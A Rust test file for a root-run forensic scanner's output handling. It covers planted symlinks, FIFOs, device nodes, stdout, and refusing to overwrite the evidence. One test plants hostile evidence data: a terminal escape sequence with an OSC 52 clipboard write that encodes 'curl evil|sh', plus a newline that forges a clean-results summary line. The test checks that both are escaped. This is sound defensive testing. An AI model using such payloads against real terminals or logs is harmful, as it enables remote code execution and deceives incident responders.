//! Outputs, as a responder running as root meets them: a symlink planted at the output,
//! a device or FIFO given as the output, standard output as `-`, and an output that is
//! also the evidence. Device nodes are made with mknod in a temporary folder when the
//! tests run as root (as CI does); otherwise that case says it was skipped.

mod support;
use support::*;

use std::path::Path;

/// Whether `csv` is the demo scan's timeline: its header, then its rows.
fn is_demo_timeline(csv: &str) -> bool {
    csv.starts_with("\"Timestamp\"") && csv.lines().count() > 50
}

/// The demo scan (JSON input) writing its timeline to `out`.
fn demo_to(out: &Path, clobber: bool) -> std::process::Output {
    let out = out.display().to_string();
    let mut args = vec![
        "csv-timeline",
        "-J",
        "-d",
        "testdata/demo",
        "-U",
        "-q",
        "-o",
        &out,
    ];
    if clobber {
        args.push("-C");
    }
    scanner_utc(&args)
}

#[cfg(unix)]
#[test]
fn a_symlink_output_is_written_at_its_target_only_with_clobber_and_the_link_is_kept() {
    let d = scratch("out-link");
    let victim = d.join("victim.csv");
    std::fs::write(&victim, "before").unwrap();
    let link = d.join("out.csv");
    std::os::unix::fs::symlink(&victim, &link).unwrap();
    let o = demo_to(&link, false);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    assert!(text(&o.stderr).contains("exists"), "{}", text(&o.stderr));
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "before");
    let o = demo_to(&link, true);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(std::fs::symlink_metadata(&link)
        .unwrap()
        .file_type()
        .is_symlink());
    assert!(is_demo_timeline(&std::fs::read_to_string(&victim).unwrap()));
    assert_eq!(
        names_in(&d),
        ["out.csv", "victim.csv"],
        "no temporary file left"
    );
    // A dangling link is refused, and nothing is created at its target.
    let dangling = d.join("dangling.csv");
    std::os::unix::fs::symlink(d.join("planted"), &dangling).unwrap();
    let o = demo_to(&dangling, true);
    assert_eq!(o.status.code(), Some(1));
    assert!(!d.join("planted").exists());
    let _ = std::fs::remove_dir_all(&d);
}

#[cfg(unix)]
#[test]
fn a_fifo_output_is_streamed_into_and_stays_a_fifo() {
    use std::os::unix::fs::FileTypeExt;
    let d = scratch("out-fifo");
    let fifo = d.join("pipe");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
    if !made.map(|s| s.success()).unwrap_or(false) {
        eprintln!("no mkfifo: FIFO output test skipped");
        return;
    }
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read_to_string(fifo).unwrap())
    };
    let o = demo_to(&fifo, false);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    let read = reader.join().unwrap();
    assert!(is_demo_timeline(&read), "{read}");
    let t = std::fs::symlink_metadata(&fifo).unwrap().file_type();
    assert!(t.is_fifo(), "the FIFO was replaced");
    assert_eq!(names_in(&d), ["pipe"]);
    let _ = std::fs::remove_dir_all(&d);
}

#[cfg(unix)]
#[test]
fn device_outputs_are_written_in_place_never_replaced() {
    use std::os::unix::fs::FileTypeExt;
    let d = scratch("out-dev");
    let null = d.join("null");
    let full = d.join("full");
    let mknod = |p: &Path, minor: &str| {
        std::process::Command::new("mknod")
            .arg(p)
            .args(["c", "1", minor])
            .status()
            .map(|s| s.success())
            .unwrap_or(false)
    };
    if !(mknod(&null, "3") && mknod(&full, "7")) {
        eprintln!("mknod refused (not root?): device output test skipped");
        return;
    }
    let o = demo_to(&null, false);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(std::fs::symlink_metadata(&null)
        .unwrap()
        .file_type()
        .is_char_device());
    // A full device fails the run with the reason, and stays a device.
    let o = demo_to(&full, true);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("cannot write"),
        "{}",
        text(&o.stderr)
    );
    assert!(std::fs::symlink_metadata(&full)
        .unwrap()
        .file_type()
        .is_char_device());
    let mut left = names_in(&d);
    left.sort();
    assert_eq!(
        left,
        ["full", "null"],
        "nothing renamed over or left beside them"
    );
    let _ = std::fs::remove_dir_all(&d);
}

#[cfg(unix)]
#[test]
fn a_process_substitution_output_is_written_into_its_pipe() {
    let d = scratch("out-procsub");
    let got = d.join("t.csv");
    let bin = env!("CARGO_BIN_EXE_scanner");
    let script = format!(
        "{bin} csv-timeline -J -d testdata/demo -U -q -o >(cat > '{}'); wait",
        got.display()
    );
    let Ok(o) = std::process::Command::new("bash")
        .args(["-c", &script])
        .current_dir(root())
        .env("TZ", "UTC")
        .output()
    else {
        eprintln!("no bash: process substitution test skipped");
        return;
    };
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    // The reader may still be finishing after the scanner exits.
    for _ in 0..100 {
        if std::fs::read_to_string(&got).is_ok_and(|s| is_demo_timeline(&s)) {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let csv = std::fs::read_to_string(&got).unwrap();
    assert!(is_demo_timeline(&csv), "{csv}");
    let _ = std::fs::remove_dir_all(&d);
}

#[test]
fn a_dash_output_is_standard_output() {
    let d = scratch("out-dash");
    let o = command()
        .current_dir(&d)
        .args(["csv-timeline", "-J", "-d"])
        .arg(root().join("testdata/demo"))
        .args(["-U", "-q", "-o", "-"])
        .env("TZ", "UTC")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", text(&o.stderr));
    assert!(is_demo_timeline(&text(&o.stdout)));
    assert!(names_in(&d).is_empty(), "no file named -");
    let _ = std::fs::remove_dir_all(&d);
}

#[test]
fn an_output_that_is_the_evidence_is_refused_before_scanning() {
    let d = scratch("out-evidence");
    let ev = d.join("attack.jsonl");
    std::fs::copy(root().join("testdata/demo/attack.jsonl"), &ev).unwrap();
    let before = std::fs::read(&ev).unwrap();
    let ev_s = ev.display().to_string();
    let o = scanner_utc(&["csv-timeline", "-J", "-f", &ev_s, "-o", &ev_s, "-C", "-q"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("also an input"),
        "{}",
        text(&o.stderr)
    );
    assert_eq!(std::fs::read(&ev).unwrap(), before);
    // Found in a folder under another name, and as the HTML report.
    let d_s = d.display().to_string();
    let other = d.join(".").join("attack.jsonl").display().to_string();
    let o = scanner_utc(&["csv-timeline", "-J", "-d", &d_s, "-H", &other, "-C", "-q"]);
    assert_eq!(o.status.code(), Some(1), "{}", text(&o.stderr));
    assert_eq!(std::fs::read(&ev).unwrap(), before);
    let _ = std::fs::remove_dir_all(&d);
}

#[test]
fn a_missing_folder_or_a_folder_as_output_fails_before_scanning() {
    let d = scratch("out-folder");
    let o = demo_to(&d.join("no").join("out.csv"), false);
    assert_eq!(o.status.code(), Some(1));
    assert!(text(&o.stderr).contains("no"), "{}", text(&o.stderr));
    let o = demo_to(&d, true);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        text(&o.stderr).contains("is a folder"),
        "{}",
        text(&o.stderr)
    );
    let _ = std::fs::remove_dir_all(&d);
}

#[test]
fn an_unwritable_folder_fails_before_scanning() {
    // /proc takes no new file, root's included (permissions would not stop root).
    #[cfg(target_os = "linux")]
    {
        let o = demo_to(Path::new("/proc/scanner-out.csv"), false);
        let err = text(&o.stderr);
        assert_eq!(o.status.code(), Some(1), "{err}");
        assert!(err.contains("/proc does not take new files"), "{err}");
        assert_eq!(err.lines().count(), 1, "one error, before scanning: {err}");
        // A bare file name: the folder is named `.`, not left blank.
        let demo = support::root().join("testdata/demo");
        let o = support::command()
            .current_dir("/proc")
            .args(["csv-timeline", "-J", "-q", "-o", "scanner-out.csv", "-d"])
            .arg(&demo)
            .output()
            .unwrap();
        let err = text(&o.stderr);
        assert!(
            err.contains("cannot write scanner-out.csv: its folder . does not take new files"),
            "{err}"
        );
    }
    #[cfg(not(target_os = "linux"))]
    eprintln!("skipped: no folder that refuses root's writes on this platform");
}

#[cfg(unix)] // a file name with control characters and a newline, which Windows refuses
#[test]
fn evidence_reaches_the_terminal_with_its_control_characters_escaped() {
    let d = scratch("out-controls");
    // The demo events with a planted Computer name: a clear-screen sequence, an OSC 52
    // clipboard write and a newline that would forge a summary line.
    let planted = "WS\\u001b[2J\\u001b]52;c;Y3VybCBldmlsfHNo\\u0007\\nResults Summary: clean";
    let demo = std::fs::read_to_string(root().join("testdata/demo/attack.jsonl")).unwrap();
    let events = demo.replace("WS-FIN-07.corp.example", planted);
    assert_ne!(events, demo);
    std::fs::write(d.join("attack.jsonl"), events).unwrap();
    // A file name of the same kind, holding a line that is not JSON.
    std::fs::write(d.join("bad\x1b[2J\nname.jsonl"), "not json\n").unwrap();
    let dir = d.display().to_string();
    let o = scanner_utc(&[
        "csv-timeline",
        "-J",
        "-d",
        &dir,
        "-o",
        discard(),
        "-C",
        "-K",
    ]);
    assert_eq!(o.status.code(), Some(3), "{}", text(&o.stderr));
    let err = text(&o.stderr);
    assert!(!err.contains('\x1b') && !err.contains('\x07'), "{err}");
    assert!(
        err.contains("WS\\x1b[2J\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x0aResults Summary: clean"),
        "{err}"
    );
    assert!(err.contains("bad\\x1b[2J\\x0aname.jsonl"), "{err}");
    assert!(
        !err.lines().any(|l| l.starts_with("Results Summary: clean")),
        "a forged line: {err}"
    );
    // The plain input-error lines of -N.
    let o = scanner_utc(&[
        "csv-timeline",
        "-J",
        "-d",
        &dir,
        "-o",
        discard(),
        "-C",
        "-N",
    ]);
    let err = text(&o.stderr);
    assert!(
        err.contains("input error: ") && !err.contains('\x1b'),
        "{err}"
    );
    let _ = std::fs::remove_dir_all(&d);
}
